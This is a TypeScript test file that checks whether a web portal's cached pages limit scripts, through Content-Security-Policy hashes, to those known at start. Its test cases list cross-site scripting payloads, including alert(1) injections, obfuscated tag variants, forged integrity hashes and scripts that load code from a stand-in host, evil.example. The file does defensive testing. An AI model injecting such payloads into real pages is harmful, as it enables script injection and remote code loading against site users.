import { describe, expect, test } from 'vitest'
import { environment } from './built-portal.fixture.ts'
import { collectKnownScripts } from './known-scripts.ts'
import { createPageMaker } from './make-page.ts'
import type { Render } from './render.ts'
import { parseSettings } from './settings.ts'
import { publicSettings } from './settings.ts'

const map = '{"integrity":{"/b.js":"sha384-b"}}'
const own = `<script>theme()</script><script type="importmap">${map}</script>
  <script type="module">load([["/a.js","sha384-a"]])</script>`
const data = '<script>window.__reactRouterContext.streamController.enqueue("[\\"a\\"]\\n");</script>'
const page = (body: string) => new Response(`<html>${own}${body}</html>`, { headers: { 'content-type': 'text/html' } })

/** Renders one page with untrusted content; the pages rendered at start have none. */
async function made(body: string) {
  let isStarted = false
  const render: Render = () => Promise.resolve(page(isStarted ? body : ''))
  const make = createPageMaker(render, publicSettings(parseSettings(environment)), await collectKnownScripts(render))
  isStarted = true
  const { answer } = await make('/programs', fetch)
  return answer.headers.get('identity')?.headers['Content-Security-Policy'] ?? ''
}

describe('a cached page', () => {
  test('may contain the scripts known at start, its data and data blocks', async () => {
    expect(await made(`${data}<script type="application/ld+json">{"a":1}</script>`)).toContain("'sha384-a'")
  })

  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT\n>alert(1)</SCRIPT>',
    '<script type="module">import("https://evil.example/x.js")</script>',
    '<script type="module">load([["/a.js","sha384-evil"]])</script>',
    '<script>theme();alert(1)</script>',
    '<script>alert(1)</script >',
    '<script>window.__reactRouterContext.streamController.enqueue("a");alert(1);</script>',
    '<script>window.__reactRouterContext.streamController.enqueue("a"+alert(1));</script>',
    '<script>window.__reactRouterContext.streamController.enqueue(alert(1));</script>',
    '<script type="module">window.__reactRouterContext.streamController.enqueue("sha384-evil");</script>',
    '<script type="m&#111;dule">window.__reactRouterContext.streamController.enqueue("sha384-evil");</script>',
    '<script async>window.__reactRouterContext.streamController.enqueue("a");</script>',
  ])('that contains %j is rejected', async (injected) => {
    await expect(made(`${injected}${data}`)).rejects.toThrow('not known at start')
  })

  test.each([
    '<script type="application/ld+json" >alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    `<script type="module">${map}</script>`,
  ])('is not extended by %j', async (injected) => {
    const plain = await made(data)
    expect(await made(`${injected}${data}`)).toBe(plain)
  })
})
